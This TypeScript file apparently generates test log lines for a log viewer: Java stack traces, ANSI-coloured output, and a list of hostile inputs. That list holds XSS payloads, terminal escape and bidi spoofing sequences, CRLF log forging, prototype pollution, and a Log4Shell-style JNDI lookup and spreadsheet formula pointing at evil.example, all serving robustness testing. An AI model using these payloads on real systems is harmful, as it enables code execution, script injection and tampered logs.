import type { Random } from './random'

/** Voices that try whoever shows them: reports of many lines, colours, and text that attacks. */

const pick = <T>(random: Random, from: readonly T[], otherwise: T): T => from[random.below(from.length)] ?? otherwise

const CAUSES = [
  'java.net.SocketTimeoutException: Read timed out',
  'java.lang.IllegalStateException: Sensor 17 answered out of order',
  'java.lang.NullPointerException: Cannot invoke "Reading.value()" because "reading" is null',
]
const FRAMES = [
  'java.base/java.net.SocketInputStream.read(SocketInputStream.java:168)',
  'com.example.telemetry.Collector.read(Collector.java:88)',
  'com.example.telemetry.Collector.lambda$poll$2(Collector.java:61)',
  'java.base/java.util.concurrent.FutureTask.run(FutureTask.java:317)',
  'java.base/java.lang.Thread.run(Thread.java:1583)',
]

/** Logback's usual line, and now and then an exception with its frames and its cause. */
export function trace(at: number, random: Random): string {
  const time = new Date(at).toISOString().replace('T', ' ').replace('Z', '')
  const thread = `[poller-${1 + random.below(4)}]`
  if (random.below(12) > 0) return `${time} ${thread} INFO  c.e.t.Collector - ${random.below(500)} readings sent`
  const frames = (count: number) => FRAMES.slice(0, count).map((frame) => `\tat ${frame}`)
  const depth = 3 + random.below(3)
  return [
    `${time} ${thread} ERROR c.e.t.Collector - Could not read sensor`,
    'com.example.telemetry.ReadException: gave up after 3 attempts',
    ...frames(depth),
    `Caused by: ${pick(random, CAUSES, '')}`,
    ...frames(2),
    `\t... ${depth - 2} common frames omitted`,
  ].join('\n')
}

const LEVELS = [
  '\u001b[32mINFO\u001b[0m ',
  '\u001b[32mINFO\u001b[0m ',
  '\u001b[33mWARN\u001b[0m ',
  '\u001b[1;31mERROR\u001b[0m',
]

/** As tools write that take the log for a terminal: colours of 16, 256 and all, bold, and a bar drawn over itself. */
export function colour(at: number, random: Random): string {
  const time = `\u001b[2m${new Date(at).toISOString()}\u001b[0m`
  if (random.below(10) === 0) {
    const done = random.below(101)
    return `building [${'='.repeat(done / 5)}${' '.repeat(20 - Math.floor(done / 5))}] ${done}%\r\u001b[Kbuilt in ${random.below(900)} ms`
  }
  const path = `\u001b[38;5;${16 + random.below(216)}m/items/${random.below(900)}\u001b[0m`
  const took = `\u001b[38;2;120;${random.below(256)};200m${random.below(400)} ms\u001b[0m`
  return `${time} ${pick(random, LEVELS, '')} \u001b[1mGET\u001b[22m ${path} ${took}`
}

const ATTACKS = [
  '<script>window.attacked = true</script>',
  '"><img src=x onerror="window.attacked=true">',
  'paid \u202e0001\u202c euro, file \u2067gpj.exe\u2069 \u2066and\u2069 \u200ehidden\u200f \u200b\ufeffmarks',
  'null\u0000 bell\u0007 backspace\u0008 escape\u001b delete\u007f next\u0085 feed\u000c tab\u000b',
  '\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u001b[2J\u001b[H\u001b[?25l\u001b[999;999H',
  '2026-11-24T00:00:00Z user logged out\r\n2026-11-24T00:00:00Z admin granted everything',
  '{"level":"error","__proto__":{"admin":true},"msg":"</script><script>window.attacked = true</script>"}',
  '\u0024{jndi:ldap://evil.example/a} {{7*7}} javascript:alert(1) =HYPERLINK("https://evil.example")',
  'Z\u0351\u036b\u0343\u036a\u0302a\u034a\u0304l\u0310g\u0308o\u034b \ud800 lone surrogate',
]

/** A program that is in somebody else's hands. Docker cuts lines at 16 KB; the longest here come near. */
export function hostile(at: number, random: Random): string {
  const roll = random.below(40)
  if (roll === 0) return `long ${'<b>W\u202e'.repeat(2_000)}`
  if (roll < 6) return colour(at, random)
  return pick(random, ATTACKS, '')
}
